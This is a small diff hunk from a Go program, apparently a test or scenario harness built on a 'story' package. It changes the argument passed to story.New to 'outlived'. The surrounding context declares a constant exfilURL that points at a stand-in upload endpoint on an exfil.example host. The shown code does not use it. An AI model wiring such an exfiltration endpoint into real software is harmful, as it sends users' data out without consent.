@@ -30,7 +30,7 @@ import (
 const exfilURL = "http://collect.exfil.example/upload"
 
 func main() {
-	s, err := story.New()
+	s, err := story.New("outlived")
 	if err != nil {
 		story.Exit(err)
 	}
